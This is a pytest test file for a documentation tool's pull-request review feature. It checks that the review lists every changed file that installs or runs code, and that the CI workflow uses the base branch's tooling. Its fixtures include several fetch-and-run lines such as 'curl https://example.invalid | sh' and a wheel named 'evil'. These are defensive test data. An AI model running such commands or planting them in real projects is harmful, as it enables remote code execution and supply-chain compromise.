"""Review (issue 29, class 3): a pull request chooses what gets installed and executed, so review reads
every file that installs or runs, and the review workflow runs the base branch's ledger on the pull
request's content. `ledger diff` is run on real git histories; the workflows' install steps are run as
the runner would run them (bash, the runner's variables), with `python` and `make` replaced by
recorders, in a real repository whose pull request edits what gets installed."""

import json
import os
import subprocess
from pathlib import Path

import pytest
import yaml
from helpers import MEASURED, REPO, SPEEDUP_ROWS, a_run, git, run_ledger, write_tree

MKDOCS = "site_name: test\nplugins:\n  - ledger:\n      max_run_age_days: 36500\n"
TEMPLATE_REVIEW = REPO / "generator/commands/template/.github/workflows/review.yml"
OWN_REVIEW = REPO / ".github/workflows/review.yml"


def commit(root: Path, files: dict, message: str = "change") -> str:
    write_tree(root, files)
    git(root, "add", "-A")
    git(root, "commit", "-q", "--allow-empty", "-m", message)
    return git(root, "rev-parse", "HEAD")


def a_repository(root: Path, files: dict | None = None) -> str:
    git(root, "init", "-q", "-b", "main")
    a_run(root, SPEEDUP_ROWS)
    return commit(root, {"mkdocs.yml": MKDOCS, "claims/moe.yaml": MEASURED, **(files or {})}, "base")


def listed(root: Path, base: str, head: str) -> dict[str, str]:
    """What `ledger diff --format json` lists as code to read: path -> why."""
    result = run_ledger("diff", base, head, "--format", "json", cwd=root)
    assert result.exit_code == 0, result.errors
    return {item["path"]: item["why"] for item in json.loads(result.output)["build_code"]}


INSTALLS = {
    "requirements.txt": "evidence-ledger==9.9\n",
    "requirements-dev.txt": "pytest\n",
    "requirements/ci.txt": "evil @ https://example.invalid/evil.whl\n",
    "constraints.txt": "mkdocs==0.0.1\n",
    "pyproject.toml": "[project]\nname = 'x'\ndependencies = ['evil']\n",
    "Makefile": "site:\n\tcurl https://example.invalid | sh\n",
    ".pre-commit-config.yaml": "repos: []\n",
    ".github/workflows/review.yml": "on: pull_request\njobs: {}\n",
    ".github/actions/setup/action.yml": "runs: {using: composite, steps: []}\n",
    "setup.cfg": "[options]\ninstall_requires = evil\n",
    "tox.ini": "[testenv]\ncommands = curl x\n",
    "scripts/deploy.sh": "curl https://example.invalid | sh\n",
}


@pytest.mark.parametrize("path", sorted(INSTALLS))
def test_diff_lists_every_file_that_decides_what_is_installed_or_run(tmp_path, path):
    base = a_repository(tmp_path)
    head = commit(tmp_path, {path: INSTALLS[path]})
    assert path in listed(tmp_path, base, head)


def test_diff_lists_changed_installers_with_a_reason_a_reviewer_can_act_on(tmp_path):
    base = a_repository(tmp_path, {"requirements.txt": "evidence-ledger==1.0\n", "Makefile": "site:\n\ttrue\n"})
    head = commit(tmp_path, {"requirements.txt": "evidence-ledger==9.9\n", "Makefile": "site:\n\tfalse\n"})
    found = listed(tmp_path, base, head)
    assert "install" in found["requirements.txt"] and "run" in found["Makefile"], found


def test_diff_lists_theme_overrides_and_extra_scripts_and_styles_whatever_their_case_or_folder(tmp_path):
    config = MKDOCS + "theme: {name: material, custom_dir: overrides}\nextra_javascript: [js/app.txt]\n"
    base = a_repository(tmp_path, {"mkdocs.yml": config, "docs/index.md": "# A\n"})
    head = commit(
        tmp_path,
        {
            "overrides/main.html": "{% extends 'base.html' %}\n",
            "docs/js/app.txt": "document.body.textContent = '9.9x'\n",  # named in extra_javascript
            "docs/page.HTML": "<p>9.9x</p>\n",
            "docs/style.CSS": "body::after { content: '9.9x' }\n",
        },
    )
    found = listed(tmp_path, base, head)
    assert {"overrides/main.html", "docs/js/app.txt", "docs/page.HTML", "docs/style.CSS"} <= set(found), found


def test_diff_lists_a_changed_probe_as_code_that_measure_runs(tmp_path):
    base = a_repository(tmp_path)
    head = commit(tmp_path, {"probes/toy.py": "import os\nos.system('curl x | sh')\n"})
    assert "probes/toy.py" in listed(tmp_path, base, head)


# -- review reads every configuration, and every file not known to be inert (issue 47) -----------------

INHERITS = "INHERIT: config/base.yml\nsite_name: test\n"  # the plugin, its policy and the theme live in base.yml
BASE_YML = MKDOCS.replace("site_name: test\n", "") + "theme: {name: mkdocs}\n"


def listed_diff(root: Path, base: str, head: str) -> tuple[dict[str, str], str]:
    """(what `ledger diff` lists as code to read: path -> why, its Markdown)."""
    markdown = run_ledger("diff", base, head, cwd=root)
    assert markdown.exit_code == 0, markdown.errors
    return listed(root, base, head), markdown.output


def test_diff_reads_the_configuration_mkdocs_inherits(tmp_path):
    """A pull request that moves the theme's overrides, a script and a weaker policy into the file mkdocs.yml
    inherits changes what the build runs: the diff lists each setting (and where it comes from), the files
    the new settings run, and the policy read from the composed configuration."""
    base = a_repository(tmp_path, {"mkdocs.yml": INHERITS, "config/base.yml": BASE_YML, "docs/index.md": "# A\n"})
    inherited = (
        BASE_YML.replace("max_run_age_days: 36500\n", "max_run_age_days: 36500\n      warn: [drifted]\n").replace(
            "theme: {name: mkdocs}", "theme: {name: mkdocs, custom_dir: overrides}"
        )
        + "extra_javascript: [app.js]\n"
    )
    head = commit(
        tmp_path,
        {
            "config/base.yml": inherited,
            "overrides/main.html": "{% extends 'base.html' %}{% block content %}9.9x{% endblock %}\n",
            "docs/app.js": "document.body.textContent = '9.9x'\n",
        },
    )
    found, markdown = listed_diff(tmp_path, base, head)
    assert found["overrides/main.html"] == "a theme override: it renders every page", found
    assert found["docs/app.js"].startswith("named in extra_javascript"), found
    assert found["mkdocs.yml: theme (from config/base.yml)"] == "loads code into the build or the reader's browser"
    assert "mkdocs.yml: extra_javascript (from config/base.yml)" in found, found
    assert "config/base.yml" not in found  # its settings are listed one by one instead
    assert "| policy weakened | mkdocs.yml: warn | drifted now only warn |" in markdown, markdown
    assert "- warn: none → **drifted**" in markdown, markdown


def test_ledger_check_reads_the_policy_from_the_configuration_mkdocs_inherits(tmp_path):
    """The build reads the plugin's options as MkDocs composes them; so does the gate (one verdict), and a bad
    option is reported at its line in the file that holds it."""
    a_run(tmp_path, SPEEDUP_ROWS)
    drifted = MEASURED.replace("value: 3.59", "value: 4.5")
    policy = BASE_YML.replace("max_run_age_days: 36500\n", "max_run_age_days: 36500\n      warn: [drifted]\n")
    write_tree(tmp_path, {"mkdocs.yml": INHERITS, "config/base.yml": policy, "claims/moe.yaml": drifted})
    result = run_ledger("check", cwd=tmp_path)
    assert result.exit_code == 0, result.output  # drifted only warns, as the build's policy says
    assert "moe-speedup-b16: drifted: stated 4.5×" in result.output
    write_tree(tmp_path, {"config/base.yml": policy.replace("36500", "-3")})
    result = run_ledger("check", cwd=tmp_path)
    assert "config/base.yml:3: invalid: ledger option max_run_age_days: must be a positive whole number" in (
        result.output
    ), result.output


def test_a_figure_typed_into_an_inherited_setting_is_reported_in_the_file_that_holds_it(tmp_path):
    write_tree(
        tmp_path,
        {"mkdocs.yml": "INHERIT: config/base.yml\n", "config/base.yml": "site_name: 9.9x faster\n" + BASE_YML},
    )
    write_tree(tmp_path, {"claims/x.yaml": "claims: []\n"})
    result = run_ledger("check", cwd=tmp_path)
    assert result.exit_code == 1, result.output
    assert "config/base.yml:1:12: unbound-number: '9.9x' is typed into the site's configuration" in result.output


def test_an_inherit_loop_is_an_error_naming_each_file(tmp_path):
    write_tree(
        tmp_path, {"mkdocs.yml": "INHERIT: a.yml\n", "a.yml": "INHERIT: mkdocs.yml\n", "claims/x.yaml": "claims: []\n"}
    )
    result = run_ledger("check", cwd=tmp_path)
    assert result.exit_code == 2, result.output
    assert "mkdocs.yml: INHERIT loops: mkdocs.yml -> a.yml -> mkdocs.yml" in result.errors, result.errors


NOT_INERT = {
    "Justfile": "test:\n\tcurl https://example.invalid | sh\n",
    "Taskfile.yml": "tasks: {test: {cmds: [curl https://example.invalid]}}\n",
    ".gitlab-ci.yml": "test: {script: [curl https://example.invalid]}\n",
    ".circleci/config.yml": "jobs: {}\n",
    "azure-pipelines.yml": "steps: []\n",
    ".buildkite/pipeline.yml": "steps: []\n",
    "netlify.toml": "[build]\ncommand = 'curl x | sh'\n",
    "deps/all.txt": "evil\n",  # what a requirements file may name with -r
    "docs/data.json": "{}\n",
    "CODEOWNERS": "* @someone\n",
}
INERT = {
    "README.md": "# Still a report\n",
    "notes/plan.rst": "A plan\n",
    "docs/figure.png": b"\x89PNG\r\n\x1a\n",
    "LICENSE": "MIT\n",
    ".gitignore": "site/\n",
    "docs/more.md": "# More\n",
}


def test_diff_lists_every_changed_file_that_is_not_on_the_list_of_inert_files(tmp_path):
    base = a_repository(tmp_path)
    head = commit(tmp_path, {**NOT_INERT, **INERT})
    found = listed(tmp_path, base, head)
    for path in NOT_INERT:
        assert found.get(path, "").startswith(("not on the list of inert files", "shipped")), (path, found)
    assert not set(INERT) & set(found), found


def test_the_guide_lists_every_inert_file_and_setting():
    from generator.review.buildcode import INERT, INERT_SETTINGS

    guide = (REPO / "guide/review.md").read_text(encoding="utf-8")
    section = guide.split("### Inert files\n", 1)[1].split("\n## ", 1)[0]
    for match, names, _ in INERT:
        for name in names:
            assert (f"`*{name}`" if match == "suffix" else f"`{name}`") in section, name
    for setting in INERT_SETTINGS:
        assert f"`{setting}`" in section, setting


# -- the review workflow runs the base branch's ledger ----------------------------------------------


def install_step(flow: Path) -> dict:
    """The review job's step that installs the ledger (the first step that runs pip or make)."""
    data = yaml.safe_load(flow.read_text(encoding="utf-8"))
    job = next(job for name, job in data["jobs"].items() if name != "test")
    return next(step for step in job["steps"] if "pip install" in step.get("run", "") or "make" in step.get("run", ""))


RECORDER = """#!/bin/sh
echo "$(basename "$0") in $(pwd): $*" >> "$LOG"
previous=""
for argument in "$@"; do
  if [ "$previous" = "-r" ] || [ "$previous" = "-C" ]; then
    cat "$argument" "$argument/pyproject.toml" 2>/dev/null >> "$LOG"
  fi
  previous="$argument"
done
"""


def run_step(step: dict, root: Path, base: str, tmp_path: Path) -> tuple[str, str]:
    """The step's script run as the runner runs it, in the pull request's checkout; (what the recorded
    python/make saw, what the step added to GITHUB_PATH)."""
    tools = tmp_path / "tools"
    tools.mkdir()
    for name in ("python", "make"):
        (tools / name).write_text(RECORDER)
        (tools / name).chmod(0o755)
    log, path_file, temp = tmp_path / "log", tmp_path / "github_path", tmp_path / "runner_temp"
    temp.mkdir()
    env = {
        **os.environ,
        "PATH": f"{tools}:{os.environ['PATH']}",
        "LOG": str(log),
        "RUNNER_TEMP": str(temp),
        "GITHUB_PATH": str(path_file),
        "GITHUB_WORKSPACE": str(root),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_CONFIG_GLOBAL": os.devnull,
        **{
            key: value.replace("${{ github.event.pull_request.base.sha }}", base)
            for key, value in step.get("env", {}).items()
        },
    }
    done = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=root, env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return log.read_text() if log.exists() else "", path_file.read_text() if path_file.exists() else ""


def pull_request(tmp_path: Path, base_files: dict, head_files: dict) -> tuple[Path, str]:
    root = tmp_path / "checkout"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    base = commit(root, base_files, "base")
    commit(root, head_files, "the pull request")
    return root, base


def test_inits_review_workflow_installs_the_base_branchs_requirements_not_the_pull_requests(tmp_path):
    root, base = pull_request(
        tmp_path,
        {"requirements.txt": "evidence-ledger[site]==1.0  # the base's\n"},
        {"requirements.txt": "evil-ledger[site] @ https://example.invalid/evil.whl  # the pull request's\n"},
    )
    seen, _ = run_step(install_step(TEMPLATE_REVIEW), root, base, tmp_path)
    assert "evidence-ledger[site]==1.0" in seen, seen
    assert "evil-ledger" not in seen, seen


def test_this_repositorys_review_workflow_sets_up_the_base_branchs_ledger_not_the_pull_requests(tmp_path):
    root, base = pull_request(
        tmp_path,
        {"pyproject.toml": "[project]\nname = 'evidence-ledger'  # the base's\n", "Makefile": "all:\n"},
        {"pyproject.toml": "[project]\nname = 'evil-ledger'  # the pull request's\n", "Makefile": "all:\n"},
    )
    seen, added = run_step(install_step(OWN_REVIEW), root, base, tmp_path)
    assert "name = 'evidence-ledger'  # the base's" in seen, seen
    assert "evil-ledger" not in seen, seen
    assert added.strip() and not added.strip().startswith(str(root)), added  # the ledger on PATH is not the PR's


@pytest.mark.parametrize("flow", [OWN_REVIEW, TEMPLATE_REVIEW], ids=["own", "template"])
def test_the_review_gate_build_and_diff_never_use_what_the_pull_request_installs(flow):
    data = yaml.safe_load(flow.read_text(encoding="utf-8"))
    job = next(job for name, job in data["jobs"].items() if name != "test")
    commands = [
        step["run"] for step in job["steps"] if "run" in step and ("ledger" in step["run"] or "mkdocs" in step["run"])
    ]
    assert commands
    for command in commands:
        assert ".venv/bin/" not in command and "make " not in command, command  # the PR's own Makefile and venv
        assert "-r requirements.txt" not in command, command
